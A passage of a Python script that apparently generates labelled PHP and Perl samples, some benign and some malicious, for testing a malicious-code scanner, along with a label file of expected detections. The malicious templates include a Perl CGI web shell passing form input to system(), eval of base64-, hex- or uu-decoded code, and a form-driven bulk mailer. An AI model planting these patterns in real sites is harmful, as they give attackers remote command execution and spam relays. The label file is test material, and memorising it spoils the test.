            "    return 'perl -e ' . q{eval+pack+q/H10000000/,join+q//,@ARGV} . ' ' . $hex;\n}\n\n"
            "print remote_wrap('print 1'), \"\\n\";\n" % word)


def t_pl_decode_eval(g, php_file):
    """The same words as code: a Perl loader evaluating what it decodes."""
    r = g.rng
    g.lang = "pl"
    blob = "cHJpbnQgImhlbGxvXG4iOw=="
    form = r.choice(["b64", "hex", "uu"])
    g.transforms.add("pl_eval:" + form)
    code = {"b64": "use MIME::Base64;\neval(decode_base64('%s'));\n" % blob,
            "hex": "my $p = '7072696e74202268656c6c6f5c6e223b';\neval pack 'H*', $p;\n",
            "uu": "eval unpack 'u', q{%s};\n" % "7<')I;G0@(FAE;&QO7&XB.P``"}[form]
    return "#!/usr/bin/perl\n# cache warmer\n" + code


def b_pl_cgi_fixed_prog(g, php_file):
    """A CGI that runs a fixed program named in its own settings (a certificate
    request signer); the form only fills a request file."""
    r = g.rng
    g.lang = "pl"
    prog = r.choice(['"/usr/bin/openssl ca"', '"/usr/local/bin/rrdtool graph"', '"/usr/bin/convert"'])
    return ("#!/usr/bin/perl\n$config = \"/etc/app/app.cnf\";\n$tool = %s;\n$out = \"/tmp/app/out\" . rand 10000;\n"
            "&ReadForm;\nopen(REQ, \">$out.req\") || die;\nprint REQ \"CN = $FIELDS{'who'}\\n\";\nclose(REQ);\n"
            "system(\"$tool -batch -config $config -in $out.req -out $out 2>&1\");\n"
            "print \"Content-type: application/octet-stream\\n\\n\";\nopen(O, $out);\nprint <O>;\n\n"
            "sub ReadForm {\n    if ($ENV{'REQUEST_METHOD'} eq 'GET') {\n        @pairs = split(/&/, $ENV{'QUERY_STRING'});\n    }\n"
            "    foreach $pair (@pairs) {\n        ($n, $v) = split(/=/, $pair);\n        $FIELDS{$n} = $v;\n    }\n}\n\n"
            "sub Error {\n    print \"Content-type: text/html\\n\\n<h1>error</h1>\";\n}\n" % prog)


def t_pl_cgi_shell(g, php_file):
    """A Perl CGI command shell: a form to type the command, system() of it."""
    r = g.rng
    g.lang = "pl"
    v = r.choice(["$c", "$run", "$x"])
    return ("#!/usr/bin/perl\nuse CGI;\n$q = CGI->new;\n%s = $q->param('q');\n"
            "print \"Content-type: text/html\\n\\n\";\n"
            "print '<form method=post><input name=q><input type=submit></form><pre>';\n"
            "system(%s) if %s;\nprint '</pre>';\n" % (v, v, v))


def b_pl_monitor_alerts(g, php_file):
    """A monitoring CGI: splits a dotted target path from the form, mails alerts to
    the addresses of its configuration in a loop."""
    g.lang = "pl"
    return ("#!/usr/bin/perl\nuse CGI;\nuse Net::SMTP;\nmy $q = CGI->new;\n"
            "my @target = split /\\./, $q->param('target');\nforeach my $step (@target) {\n    $node = $node->{$step};\n}\n"
            "foreach my $to (split /\\s*,\\s*/, $cfg->{Alerts}{to}) {\n    my $smtp = Net::SMTP->new($cfg->{mailhost});\n"
            "    $smtp->mail($cfg->{from});\n    $smtp->to($to);\n    $smtp->data(\"To: $to\\nSubject: alert\\n\\n$msg\");\n"
            "    $smtp->quit;\n}\n")


def t_pl_cgi_mailer(g, php_file):
    """A Perl CGI bulk mailer: the recipients split from a form field."""
    r = g.rng
    g.lang = "pl"
    sep = r.choice(["/\\r?\\n/", "/,/", "/[\\s,;]+/", "\"\\n\""])
    g.transforms.add("sep:" + sep)
    return ("#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy @to = split(%s, $q->param('emails'));\n"
            "foreach my $rcpt (@to) {\n    open(MAIL, '|/usr/sbin/sendmail -t');\n"
            "    print MAIL \"To: $rcpt\\nSubject: \" . $q->param('subject') . \"\\n\\n\" . $q->param('body');\n"
            "    close(MAIL);\n}\nprint \"Content-type: text/html\\n\\nsent\";\n" % sep)


def benign_templates(php_file):
    """The (name, fn, class, lang, expect) rows, each fn bound to php_file."""
    def bind(fn):
        return lambda g: fn(g, php_file)
    return [
        ("argv_tool", bind(b_argv_tool), "benign", "php", "none"),
        ("argv_shell_params", bind(b_argv_shell_params), "benign", "php", "none"),
        ("image_magick", bind(b_image_magick), "benign", "php", "none"),
        ("backup_tool", bind(b_backup_tool), "benign", "php", "none"),
        ("cron_runner", bind(b_cron_runner), "benign", "php", "none"),
        ("escapeshellcmd_tool", bind(b_escapeshellcmd_tool), "benign", "php", "none"),
        ("config_installer", bind(b_config_installer), "benign", "php", "none"),
        ("template_compiler", bind(b_template_compiler), "benign", "php", "none"),
        ("cache_export", bind(b_cache_export), "benign", "php", "none"),
        ("upload_checked", bind(b_upload_checked), "benign", "php", "none"),
        ("inline_asset", bind(b_inline_asset), "benign", "php", "none"),
        ("page_writer", bind(b_page_writer), "benign", "php", "none"),
        ("pl_comment_eval", bind(b_pl_comment_eval), "benign", "pl", "none"),
        ("pl_cgi_fixed_prog", bind(b_pl_cgi_fixed_prog), "benign", "pl", "none"),
        ("pl_monitor_alerts", bind(b_pl_monitor_alerts), "benign", "pl", "none"),
        ("argv_command", bind(t_argv_command), "malicious", "php", "high"),
        ("escape_no_protect", bind(t_escape_no_protect), "malicious", "php", "high"),
        # an injection in an admin tool's ssh line, not a back door: found, medium
        ("ssh_inject", bind(t_ssh_inject), "malicious", "php", "any"),
        ("ssh_escaped_once", bind(t_ssh_escaped_once), "malicious", "php", "any"),
        ("code_write", bind(t_code_write), "malicious", "php", "high"),
        ("tpl_infector", bind(t_tpl_infector), "malicious", "php", "high"),
        ("walk_writer", bind(t_walk_writer), "malicious", "php", "high"),
        ("upload_unchecked", bind(t_upload_unchecked), "malicious", "php", "high"),
        ("pl_decode_eval", bind(t_pl_decode_eval), "malicious", "pl", "high"),
        ("pl_cgi_shell", bind(t_pl_cgi_shell), "malicious", "pl", "high"),
        ("pl_cgi_mailer", bind(t_pl_cgi_mailer), "malicious", "pl", "high"),
    ]


def main():
    import argparse
    import hashlib
    import random
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import gen_variants as gv
    from phpgen import Gen
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=12)
    a = ap.parse_args()
    out = gv.safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
    rows = []
    for name, fn, cls, lang0, expect in benign_templates(gv.php_file):
        for i in range(a.per):
            lang = lang0
            tag = "%s:%s:%d" % (a.seed, name, i)
            g = Gen(random.Random(tag), noise=True)
            g.malicious = cls == "malicious"
            g.lang = lang
            text = fn(g)
            lang = g.lang
            fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + lang
            with open(os.path.join(out, fname), "wb") as f:
                f.write(text.encode("latin-1"))
            rows.append((fname, cls, name, lang, expect, ",".join(sorted(g.transforms)) or "-"))
    with open(os.path.join(out, "variants.tsv"), "w") as f:
        f.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
        for row in rows:
            f.write("\t".join(row) + "\n")
    print("benigngen: %d files (%d malicious, %d benign) in %s, seed %d" % (
        len(rows), sum(r[1] == "malicious" for r in rows), sum(r[1] == "benign" for r in rows), out, a.seed))


if __name__ == "__main__":
    main()
